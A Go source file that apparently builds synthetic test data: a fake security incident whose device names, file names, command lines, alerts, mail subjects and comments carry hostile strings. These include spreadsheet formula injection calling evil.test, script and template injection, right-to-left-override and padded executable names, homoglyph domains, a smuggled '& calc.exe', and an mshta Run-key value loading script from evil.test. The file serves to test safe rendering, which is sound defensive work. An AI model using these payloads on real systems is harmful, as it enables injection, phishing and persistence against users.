package sample

import "strings"

// hostileText is an attack whose names, subjects and command lines are written to mislead whoever reads them: every page and file that
// shows them must show them as they are.
func hostileText(c clock) scenario {
	t := c.from(55 * minute)
	co := contoso()
	who := person{tenant: co, account: "samira.haddad", name: "Samira Haddad\u200b"}
	pc := &device{
		tenant: co, host: `=HYPERLINK("https://evil.test/?d="&A1,"click")`, platform: "Windows11", version: "24H2", build: 26100,
		group: "<b>Sales</b>", risk: "medium", localIP: "10.20.7.66", externalIP: "198.51.100.24", firstSeen: c.from(12 * day).at(0),
		loggedOn:      []person{who, {account: "+cmd|' /C calc'!A0", local: "@SUM(1+1)"}},
		unmanagedName: `=HYPERLINK("https://evil.test/?d="&A1,"click").contoso.example`, notInEntra: true,
	}
	lure := file{folder: `C:\Users\samira.haddad\Downloads`, name: "price-list-\u202exslx.exe", size: 412672}
	padded := file{folder: `C:\Users\samira.haddad\Desktop`, name: "Minutes.pdf" + strings.Repeat(" ", 60) + ".scr", size: 99328}
	explorer := &process{device: pc, user: who, id: 3304, started: t.at(-hour), image: microsoft(`C:\Windows`, "explorer.exe", 3191352)}
	first := explorer.child(5120, t.at(1), lure,
		`"C:\Users\samira.haddad\Downloads\price-list-`+"\u202e"+`xslx.exe" --title "</title><script>alert(1)</script>"`)
	long := first.child(5188, t.at(3), system32("cmd.exe", 344064), `cmd /v:on /c "set q=`+padding(20000)+`&call %q%"`)
	blank := long.child(5240, t.at(4), system32("notepad.exe", 360448),
		"notepad.exe readme.txt"+strings.Repeat(" ", 60)+"& calc.exe\r\n\t\u2028second line\x00\x1b[31m")
	marks := blank.child(5300, t.at(6), padded, "p\u0430ypal-update.exe \ufeff\u2066/quiet\u2069 z"+strings.Repeat("\u0335", 24))
	r := noted(t.recorded(8 * minute))
	device := alert{
		key: "hostile/file", product: endpoint(), title: "Executable with a misleading name was started\u202e!tfosorciM", severity: "high",
		first: first.started, last: marks.started, created: r.at, updated: r.at, threat: "Trojan:Win32/Camou<flage>.A",
		description: "A program shows itself as a price list: its name holds a character that turns the order of the letters.\n<img src=x onerror=alert(1)>\n| a | b |\n[link](javascript:alert(1))",
		actions:     []string{"Do not open the file.", "{{ constructor.constructor('return 1')() }}"},
		categories:  []string{"DefenseEvasion"}, mitre: []string{"T1036.002", "T1036.007"},
		evidence: []object{
			pc.evidence(r.suspicious("active").primary()), who.evidence(r.suspicious("active")), first.evidence(r.malicious("active")),
			long.evidence(r.malicious("active")), blank.evidence(r.suspicious("active")), marks.evidence(r.suspicious("active")),
			lure.on(*pc, r.malicious("active"), "detected"), padded.on(*pc, r.suspicious("active"), "detected"),
			registryValue(r.suspicious("active"), *pc, currentUser, `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "\u200bOneDrive", "String",
				`mshta "javascript:document.write('<script src=//evil.test/x></script>')"`),
			link(r.malicious("active"), "https://xn--cntoso-sxa.example/%E2%80%AE/login?next=//evil.test"),
			link(r.malicious("active"), "https://c\u043entoso.example@evil.test/"), link(r.suspicious("active"), "javascript:alert(document.domain)"),
			dns(r.malicious("active"), "xn--cntoso-sxa.example", "", "203.0.113.66"),
		},
	}
	m := mail{
		key: "hostile", to: who, subject: `<script>alert("subject")</script> Re: =1+1 ` + "\u202egnp.ecnalab\u202c invoice", language: "en",
		direction: "inbound", senderIP: "203.0.113.66", received: t.whole(-300), action: "delivered", location: "inbox",
		envelope: sender{"bounce@evil.test", "", "evil.test"},
		from:     sender{"ceo@xn--cntoso-sxa.example", "\"CEO\" <ceo@contoso.example>\u200f", "xn--cntoso-sxa.example"},
		urls:     []string{"https://xn--cntoso-sxa.example/%E2%80%AE/login?next=//evil.test"}, attachments: 1, threats: []string{"Phish"},
	}
	r = noted(t.recorded(11 * minute))
	message := alert{
		key: "hostile/mail", product: office365(), title: "Message imitates an executive", severity: "medium", first: t.whole(-300),
		last: t.whole(-300), created: r.at, updated: r.at,
		description: "The sender's domain looks like the company's own, written with other letters -V1.0.0.1",
		categories:  []string{"InitialAccess"}, mitre: []string{"T1566.001"},
		evidence: []object{m.evidence(r.malicious("active")), mailbox(r, who), link(r.malicious("active"), m.urls[0])},
	}
	return scenario{first: []incident{{
		tenant: co, id: "5221", name: "Executable with a misleading name on one endpoint", severity: "high", created: r.at, updated: r.at,
		priority: 58, tags: []string{"-2+3", "<i>tag</i>"}, alerts: []alert{device, message},
		comments: []comment{{"=cmd|'/c calc'!A1\n\u202ereversed comment", "<b>ops</b>", t.recorded(40 * minute)}},
	}}}
}

// padding is n letters and digits without meaning, with which attackers fill command lines.
func padding(n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		b.WriteString("^" + inventSHA1("padding/" + string(rune('a'+i%26)) + digits("padding", 4))[:11] + "%x%")
	}
	return b.String()[:n]
}
